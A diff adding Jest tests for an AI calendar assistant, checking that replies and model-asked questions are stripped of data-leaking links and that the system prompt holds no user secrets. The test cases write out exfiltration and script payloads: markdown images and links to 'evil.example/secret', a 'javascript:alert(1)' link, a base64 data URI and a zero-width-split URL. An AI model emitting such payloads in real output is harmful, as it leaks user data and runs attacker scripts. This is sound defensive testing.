@@ -1,0 +1,68 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { ModelServer } from '../support/model-server.js';
+import { AiWorld, anEvent } from './ai-world.js';
+
+let model: ModelServer;
+let world: AiWorld;
+
+beforeAll(async () => {
+  model = await ModelServer.start();
+  world = await AiWorld.startWith(model);
+});
+
+afterAll(async () => {
+  await world.close();
+  await model.close();
+});
+
+describe('what leaves in a reply', () => {
+  it.each([
+    ['an image', 'See ![x](https://evil.example/?d=secret) now'],
+    ['a link', 'See [here](https://evil.example/secret) now'],
+    ['an autolink', 'See <https://evil.example/secret> now'],
+    ['a bare address', 'See https://evil.example/secret now'],
+    ['one without a scheme', 'See //evil.example/secret or www.evil.example/secret now'],
+    ['a bare domain with a path', 'See evil.example/secret now'],
+    ['a wide dot', 'See evil。example/secret now'],
+    ['a number for a host', 'See 192.0.2.7/secret now'],
+    ['HTML', 'See <img src="https://evil.example/secret"> <a href=javascript:alert(1)>x</a> now'],
+    ['data', 'See data:text/html;base64,PHNjcmlwdD4= now'],
+    ['a reference', 'See [x][1] now\n[1]: https://evil.example/secret'],
+    ['one in pieces', 'See ht\u200Btps://evil.example/secret now'],
+  ])('H7: %s becomes plain words, streamed or not, and nothing is fetched', async (_case, text) => {
+    const user = await world.user();
+    model.plays([{ text: Array.from(text) }]);
+
+    const { reply } = await user.chat('hi');
+    const events = await user.stream('hi');
+
+    for (const words of [reply, JSON.stringify(events)]) {
+      expect(words).not.toMatch(/:\/\/|\]\(|!\[|<img|<a |javascript:|data:text|secret|PHNjcmlwdD4/i);
+    }
+    expect(reply).toMatch(/^See [^]* now/);
+  });
+
+  it('H7: a question of the model is cleaned as well', async () => {
+    const user = await world.user();
+    const question = { question: 'See https://evil.example/secret?', options: ['![x](https://evil.example/secret)'] };
+    model.plays([{ calls: [{ name: 'ask_user', arguments: question }] }]);
+
+    const { questions } = await user.chat('hi');
+
+    expect(questions).toHaveLength(1);
+    expect(JSON.stringify(questions)).not.toMatch(/secret|:\/\//);
+  });
+
+  it('H15: the instructions hold nothing worth stealing', async () => {
+    const user = await world.user([anEvent({ summary: 'Private matter' })]);
+    model.plays([{ text: 'Hello.' }]);
+
+    await user.chat('hi');
+
+    const system = model.requests[0]?.messages[0]?.content ?? '';
+    expect(system).toContain('calendar assistant');
+    for (const secret of [user.email, user.token, 'Private matter', world.google.url]) {
+      expect(system).not.toContain(secret);
+    }
+  });
+});
